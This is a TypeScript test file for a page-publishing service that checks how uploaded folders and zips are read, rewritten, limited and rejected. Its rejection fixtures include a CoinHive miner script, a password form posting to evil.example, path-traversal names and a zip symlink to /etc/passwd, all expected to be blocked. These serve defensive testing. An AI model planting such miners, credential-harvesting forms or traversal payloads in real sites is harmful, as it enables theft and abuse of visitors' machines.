import { expect, test } from 'bun:test'

import { zipSync } from 'fflate'

import { expectError } from '../../testing/expect-error.ts'
import { FormBrowser, hiddenFields, origin, signUp } from '../../testing/fixtures/form-browser.ts'
import { startTestServer, type TestServer } from '../../testing/fixtures/test-server.ts'
import { pageFilesMax } from './limits.ts'
import { readPageFolder } from './page-folder.ts'

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text)
const pack = (files: Record<string, string>) => {
  const read = readPageFolder(
    Object.entries(files).map(([path, text]) => ({ path, bytes: bytesOf(text) })),
  )
  if ('problem' in read) return read
  const texts = read.files.map(({ path, bytes }) => [path, new TextDecoder().decode(bytes)])
  return { ...read, files: Object.fromEntries(texts) }
}

test('keeps all files of the folder of the page, by their paths', () => {
  const index =
    '<head><script defer src=js/a.js></script><!-- <img src=/a.png> --></head><img src="img/Ship 1.png">'
  expect(
    pack({
      'game/index.html': index,
      'game/js/a.js': "import('./b.js')",
      'game/img/Ship 1.png': 'one',
      'game/Theme.m4a': 'two',
      'README.md': 'x',
      '__MACOSX/game/._index.html': 'x',
      'game/.git/HEAD': 'x',
    }),
  ).toEqual({
    page: 'index.html',
    html: index,
    files: { 'js/a.js': "import('./b.js')", 'img/Ship 1.png': 'one', 'Theme.m4a': 'two' },
    rooted: [],
    outside: ['README.md'],
  })
})

test('makes exact names relative that begin with a slash, in pages, styles and import maps', () => {
  const text = (name: string): string =>
    `<link href="/css/a.css?v=1"><img srcset="/img/a%20b.png 1x, /none.png 2x" style="background:url('/img/c.png')">` +
    `<script type="importmap">{"imports":{"x":"/js/x.js","y":"/js/none.js"}}</script>` +
    `<script>fetch("/js/x.js")</script><!-- <img src="/img/c.png"> --><style>@import "/css/a.css";</style>` +
    `<a href="//host/css/a.css">${name}</a><a href=/>home</a><a href=/sub/page.html#x>page</a>`
  const files = {
    'css/a.css': 'a{background:url(/img/c.png)} b{background:url("/img/none.png")}',
    'img/a b.png': '1',
    'img/c.png': '2',
    'js/x.js': 'import "/img/c.png"',
  }
  const read = pack({ 'index.html': text('one'), 'sub/page.html': text('two'), ...files })
  if ('problem' in read) throw new Error(read.problem)
  const relative = (up: string): string =>
    `<link href="${up}css/a.css?v=1"><img srcset="${up}img/a%20b.png 1x, /none.png 2x" style="background:url('${up}img/c.png')">` +
    `<script type="importmap">{"imports":{"x":"${up}js/x.js","y":"/js/none.js"}}</script>` +
    `<script>fetch("/js/x.js")</script><!-- <img src="/img/c.png"> --><style>@import "${up}css/a.css";</style>` +
    `<a href="//host/css/a.css">`
  expect(read.html).toBe(
    `${relative('./')}one</a><a href=/>home</a><a href=./sub/page.html#x>page</a>`,
  )
  expect(read.files).toEqual({
    ...files,
    'css/a.css': 'a{background:url(../img/c.png)} b{background:url("/img/none.png")}',
    'sub/page.html': `${relative('../')}two</a><a href=/>home</a><a href=../sub/page.html#x>page</a>`,
  })
  expect(read.rooted.toSorted()).toEqual([
    '/css/a.css',
    '/img/a%20b.png',
    '/img/c.png',
    '/js/x.js',
    '/sub/page.html',
  ])
})

test('takes time in proportion to a page that is broken on purpose', () => {
  const parts = ['<link ', '<style>', '<script>', '<!--', '<a b="', '<a b= ', '<head', 'url( ']
  for (const part of parts) expect(pack({ 'a.html': part.repeat(100_000) })).toHaveProperty('html')
  const page = '<script src=a.js></script>'
  for (const part of ['\n', 'url(/', '@import "', '<!--']) {
    expect(pack({ 'a.html': page, 'a.css': part.repeat(300_000) })).toHaveProperty('html')
  }
})

test('says why a folder cannot be published', () => {
  for (const [files, problem] of [
    [{ 'a.txt': '' }, 'There is no HTML file.'],
    [{ 'a.html': '', 'b.html': '' }, 'There are several HTML files.'],
    [{ 'a/index.html': '', 'b/index.html': '' }, 'There are several HTML files.'],
    [{ 'a.html': '', '../b.js': '' }, 'The path "../b.js" is invalid: use a path relative'],
    [{ 'a.html': '', '/etc/b.js': '' }, 'The path "/etc/b.js" is invalid: use a path relative'],
    [{ 'a.html': '', 'Game.js': '', 'game.js': '' }, 'The path "game.js" is there twice'],
    [{ 'a.html': '', [`${'a/'.repeat(120)}b`]: '' }, 'has more than 240 characters.'],
    [{ 'a.html': 'x'.repeat(4 * 1_048_576 + 1) }, 'has more than 4 MB.'],
  ] as const) {
    expect(pack(files)).toEqual({ problem: expect.stringContaining(problem) })
  }
})

/** Sends the form to publish a page with a file. */
async function upload(t: TestServer, browser: FormBrowser, file: File) {
  const body = new FormData()
  const fields = hiddenFields(await browser.read('/new'), '/new/page')
  for (const [name, value] of Object.entries({ ...fields, html: '' })) body.set(name, value)
  body.set('file', file)
  const multipart = new Response(body)
  const cookie = ['berth', 'berth_form'].map((name) => `${name}=${browser.cookie(name)}`).join('; ')
  const headers = {
    'content-type': multipart.headers.get('content-type') ?? '',
    origin,
    cookie,
  }
  return t.request('POST', '/new/page', { body: await multipart.bytes(), headers })
}

test('publishes a zip with its assets, and nothing of a bad one', async () => {
  const t = await startTestServer()
  const bea = await signUp(t, 'bea')
  const zip = (files: Record<string, string>) =>
    new File(
      [
        new Uint8Array(
          zipSync(
            Object.fromEntries(Object.entries(files).map(([path, text]) => [path, bytesOf(text)])),
          ),
        ),
      ],
      'page.zip',
    )
  const before = await t.snapshot()
  for (const [status, file, problem] of [
    [400, zip({ 'a.html': '<h1>A', 'b.html': '<h1>B' }), 'There are several HTML files.'],
    [400, zip({ 'readme.txt': 'A' }), 'There is no HTML file.'],
    [400, new File(['PK nothing'], 'page.zip'), 'the zip cannot be read'],
  ] as const) {
    const failed = await upload(t, bea, file)
    expect([failed.status, String(failed.body)]).toEqual([status, expect.stringContaining(problem)])
  }
  const guest = await upload(t, new FormBrowser(t), zip({ 'index.html': '<h1>A', 'a.json': '1' }))
  expect(guest.status).not.toBe(303)
  expect(await t.snapshot()).toEqual(before)
  const good = zip({ 'game/index.html': '<title>Reef</title><h1>Reef', 'game/a.json': '{"a":1}' })
  const done = await upload(t, bea, good)
  const id = (done.headers.get('location') ?? '').split('/')[2] ?? ''
  expect(done.status).toBe(303)
  expect(await bea.read(`/studio/${id}/assets`)).toContain('a.json')
  const archive = await bea.open(`/studio/${id}/export`)
  expect(archive.headers.get('content-disposition')).toBe(`attachment; filename="${id}.zip"`)
  const carl = await signUp(t, 'carl')
  expect((await carl.open(`/studio/${id}/export`)).status).toBe(404)
  await t.close()
})

const json = { path: 'data/levels.json', text: '{"level":1}' }
const page = {
  path: 'index.html',
  text: '<title>Reef</title><script src="game.js"></script><link rel=stylesheet href=/style.css>',
}
const game = { path: 'game.js', text: "fetch('data/levels.json')" }
const style = { path: 'style.css', text: 'p{color:teal}' }
const files = [page, game, style, json, { path: 'README.md', text: 'Notes' }]
type Zippable = Parameters<typeof zipSync>[0]
const zipOf = (folder: Zippable): Uint8Array<ArrayBuffer> => new Uint8Array(zipSync(folder))
const zipType = { 'content-type': 'application/zip' }

test('agents publish a folder as files or as a zip, and then its next version', async () => {
  const t = await startTestServer()
  const [ann, bob] = [await t.agent('ann'), await t.agent('bob')]
  const before = await t.snapshot()
  const dry = await ann.call('POST', '/apps', { files, dryRun: true })
  expect([dry.status, await t.snapshot()]).toEqual([200, before])

  const made = await ann.call('POST', '/apps', { files, ref: 'reef-0001' })
  expect([made.status, made.text('app.title')]).toEqual([201, 'Reef'])
  expect(made.text('note')).toContain(
    'Its files: game.js, style.css, data/levels.json, README.md. These names began with a slash and are relative now: /style.css.',
  )
  const id = made.text('app.id')
  const html = String((await ann.call('GET', `/apps/${id}/html`)).body)
  expect(html).toBe(page.text.replace('/style.css', './style.css'))

  // The same folder as a zip is the same request.
  const zip = zipOf(
    Object.fromEntries(files.map(({ path, text }) => [`reef/${path}`, bytesOf(text)])),
  )
  const again = await ann.call('POST', '/apps?ref=reef-0001', zip, zipType)
  expect(again.body).toEqual(made.body)
  const other = zipOf({ 'index.html': bytesOf('<h1>Other') })
  await expectError(t, 409, 'ref_conflict', () =>
    ann.call('POST', '/apps?ref=reef-0001', other, zipType),
  )

  // A version keeps the assets of the last one, and replaces those of the same name.
  const next = { files: [page, game, style, { ...json, text: '{"level":2}' }] }
  await ann.call('PUT', `/apps/${id}/assets/extra.json`, bytesOf('[]'))
  const path = `/apps/${id}/versions`
  expect((await ann.call('POST', path, next)).status).toBe(201)
  const level = await ann.call('GET', `/apps/${id}/assets/data%2Flevels.json`)
  expect(level.body).toEqual({ level: 2 })
  const list = await ann.call('GET', `/apps/${id}/assets`)
  expect(Object(list.body).assets.map(({ name }: { name: string }) => name)).toEqual([
    'README.md',
    'data/levels.json',
    'extra.json',
    'game.js',
    'style.css',
  ])
  const [file] = Object(list.body).assets
  expect(file).toMatchObject({ kind: 'file', type: 'text/markdown; charset=utf-8', bytes: 5 })
  expect((await t.request('GET', new URL(file.url).pathname + new URL(file.url).search)).body).toBe(
    'Notes',
  )
  const third = await ann.call('POST', `${path}?note=Third&store=true`, other, zipType)
  expect([third.status, third.code]).toEqual([400, 'bad_request'])
  const good = await ann.call('POST', `${path}?note=Third`, other, zipType)
  expect(good.body).toMatchObject({ app: { version: 3 } })
  await expectError(t, 404, 'not_found', () => bob.call('POST', path, next))
  await t.close()
})

const mb = 1_048_576
const index = bytesOf('<h1>Reef')
const many = Array.from({ length: pageFilesMax }, (_, at) => [`${at}.json`, bytesOf('1')])
/** Bodies that are not published, and what their errors say. */
const bodies: [status: number, code: string, text: string, body: unknown][] = [
  [400, 'bad_request', '"../a.js" is invalid', { files: [page, { ...game, path: '../a.js' }] }],
  [400, 'bad_request', 'there twice', { files: [page, game, { ...game, path: 'Game.js' }] }],
  [
    400,
    'bad_request',
    'several HTML files',
    {
      files: [
        { ...page, path: 'a.html' },
        { ...page, path: 'b.html' },
      ],
    },
  ],
  [400, 'bad_request', 'exactly one of', { files, html: '<h1>Reef' }],
  [400, 'bad_request', 'exactly one of', { files: [{ ...page, base64: 'YQ==' }] }],
  [400, 'bad_request', 'cannot be decoded', { files: [{ path: 'a.html', base64: '*' }] }],
  [400, 'bad_request', '"files"', { files: [] }],
  [400, 'bad_request', '"files"', { files: Array.from({ length: pageFilesMax + 1 }, () => json) }],
  [
    422,
    'blocked_by_scan',
    'js/miner.js',
    {
      files: [
        { path: 'a.html', text: '<script src=js/miner.js></script>' },
        { path: 'js/miner.js', text: "new CoinHive.Anonymous('key').start()" },
      ],
    },
  ],
  [
    413,
    'asset_too_large',
    'big/a.json',
    { files: [page, { path: 'big/a.json', text: `"${'a'.repeat(4 * mb)}"` }] },
  ],
  [
    422,
    'blocked_by_scan',
    'safety check',
    {
      files: [
        json,
        {
          path: 'a.html',
          text: '<form action="https://evil.example"><input type=password></form>',
        },
      ],
    },
  ],
  [400, 'bad_request', 'invalid path', zipOf({ 'index.html': index, '../a.js': index })],
  [
    400,
    'bad_request',
    'link or a special file',
    zipOf({
      'index.html': index,
      'a.json': [bytesOf('/etc/passwd'), { os: 3, attrs: 0o120777 << 16 }],
    }),
  ],
  [
    400,
    'bad_request',
    'more than 200 files',
    zipOf({
      'index.html': index,
      ...Object.fromEntries([...many, ...many.map(([path, bytes]) => [`a/${path}`, bytes])]),
    }),
  ],
  [413, 'too_large', '24 MB', zipOf({ 'index.html': index, 'a.json': new Uint8Array(25 * mb) })],
  [413, 'too_large', '12 MB', new Uint8Array(12 * mb + 1)],
  [400, 'bad_request', 'cannot be read', bytesOf('PK no zip')],
]

test('a folder that cannot be published stores nothing', async () => {
  const t = await startTestServer()
  const ann = await t.agent('ann')
  const id = await ann.publish()
  for (const [at, [status, code, text, body]] of bodies.entries()) {
    for (const path of at % 8 === 0 ? ['/apps', `/apps/${id}/versions`] : ['/apps']) {
      const headers = body instanceof Uint8Array ? zipType : {}
      const failed = await expectError(t, status, code, () => ann.call('POST', path, body, headers))
      expect(JSON.stringify(failed.body)).toContain(JSON.stringify(text).slice(1, -1))
    }
  }
  const zip = zipOf({ 'index.html': index })
  for (const query of ['?store=yes', '?colour=blue', '?prompt=A+fox']) {
    await expectError(t, 400, 'bad_request', () => ann.call('POST', `/apps${query}`, zip, zipType))
  }
  await expectError(t, 401, 'no_key', () =>
    t.call('POST', '/apps', { body: zip, headers: zipType }),
  )
  await t.close()
})
